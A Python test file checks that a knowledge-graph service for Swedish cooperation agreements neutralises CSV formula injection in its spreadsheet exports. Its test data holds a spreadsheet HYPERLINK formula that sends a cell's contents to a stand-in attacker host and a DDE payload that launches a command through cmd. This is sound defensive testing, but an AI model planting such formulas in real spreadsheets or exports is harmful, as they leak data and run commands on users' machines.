"""CSV files meant for spreadsheets never start a cell with a formula (OWASP CSV injection).

A graph whose labels start with ``=``, ``+``, ``-`` and ``@`` (copied from the checkout, one
agreement and one development area renamed) is served and exported; every spreadsheet-facing
CSV shows them with a leading ``'``, the SPARQL results keep them exact, and the template's
CSV sheets read back to the original labels.
"""

import csv
import io
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from live import samverkan
from locations import REPO
from rdflib import Graph, Literal, URIRef

from service.app import create_app
from service.build import open_store
from service.settings import Settings
from service.spreadsheet import FORMULA_STARTS, neutralised, restored

AGREEMENT = "https://w3id.org/samverkan-kg/agreement/liu-norrkopings-kommun-2017"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
AGREEMENT_LABEL = "Samverkansavtal mellan Linköpings universitet och Norrköpings kommun 2017"
AREA_LABEL = "Utöka kunskaps- och erfarenhetsutbytet mellan kommunen och universitetet"
AREA_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = (FORMULA, AREA_FORMULA)


@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the graph's folders with two labels that a spreadsheet would run."""
    root = tmp_path_factory.mktemp("hostile-graph")
    for folder in ("ontology", "data", "shapes", "queries"):
        shutil.copytree(REPO / folder, root / folder)
    data = root / "data" / "norrkoping.ttl"
    text = data.read_text(encoding="utf-8")
    for label, formula in ((AGREEMENT_LABEL, FORMULA), (AREA_LABEL, AREA_FORMULA)):
        assert f'"{label}"@sv' in text
        escaped = formula.replace("\\", "\\\\").replace('"', '\\"')
        text = text.replace(f'"{label}"@sv', f'"{escaped}"@sv')
    data.write_text(text, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def client(hostile_root: Path) -> Iterator[TestClient]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SAMVERKAN_GRAPH_ROOT", str(hostile_root))
        settings = Settings()
        store = open_store(settings)
        with TestClient(create_app(settings, store)) as served:
            yield served


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe(text: str, *expected: str) -> None:
    """No cell starts a formula, and each ``expected`` label is there, neutralised."""
    found = cells(text)
    assert not [c for c in found if c.startswith(FORMULA_STARTS)]
    for label in expected:
        assert "'" + label in found


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/compare.csv", (FORMULA,)),
        ("/compare.csv?table=matrix", (FORMULA,)),
        ("/agreement.csv", (FORMULA,)),
        ("/development-area.csv", (AREA_FORMULA,)),
        ("/area.csv", ()),
        ("/queries/agreement-parties?format=csv&labels=true", (FORMULA,)),
    ],
)
def test_spreadsheet_csv_is_neutralised(
    client: TestClient, path: str, expected: tuple[str, ...]
) -> None:
    answer = client.get(path)
    assert answer.status_code == 200, answer.text[:300]
    assert_safe(answer.text, *expected)


def test_sparql_results_stay_exact(client: TestClient) -> None:
    query = f"SELECT ?l WHERE {{ <{AGREEMENT}> <http://www.w3.org/2000/01/rdf-schema#label> ?l }}"
    as_csv = client.get("/sparql", params={"query": query}, headers={"Accept": "text/csv"})
    assert FORMULA in cells(as_csv.text)
    tsv = client.get("/sparql", params={"query": query, "format": "tsv"})
    assert '\n"=HYPERLINK(' in tsv.text and "'=" not in tsv.text


def test_cli_compare_and_query_csv(hostile_root: Path) -> None:
    env = {"SAMVERKAN_GRAPH_ROOT": str(hostile_root)}
    compared = samverkan("compare", "--format", "csv", env=env)
    assert compared.returncode == 0, compared.stderr
    assert_safe(compared.stdout, FORMULA)
    asked = samverkan("query", "agreement-parties", "--labels", "--format", "csv", env=env)
    assert asked.returncode == 0, asked.stderr
    assert_safe(asked.stdout, FORMULA)


def test_template_csv_is_neutralised_and_reads_back(hostile_root: Path, tmp_path: Path) -> None:
    env = {"SAMVERKAN_GRAPH_ROOT": str(hostile_root)}
    sheets = tmp_path / "template"
    exported = samverkan("export", "--template", str(sheets), env=env)
    assert exported.returncode == 0, exported.stderr
    written = "".join(p.read_text(encoding="utf-8") for p in sorted(sheets.glob("*.csv")))
    assert_safe(written, *HOSTILE)
    out = tmp_path / "back.ttl"
    imported = samverkan("import", str(sheets), "--out", str(out), "--alone", env=env)
    assert imported.returncode == 0, imported.stderr
    labels = {str(o) for o in Graph().parse(out).objects(URIRef(AGREEMENT), None)}
    assert FORMULA in labels and "'" + FORMULA not in labels
    assert Literal(AREA_FORMULA, lang="sv") in set(Graph().parse(out).objects())


@pytest.mark.parametrize("text", [*HOSTILE, "-1", "+46 13 28 10 00", "\tx", "\rx", "plain", "'x"])
def test_neutralised_then_restored_is_the_text(text: str) -> None:
    assert restored(str(neutralised(text))) == text
    assert not str(neutralised(text)).startswith(FORMULA_STARTS)
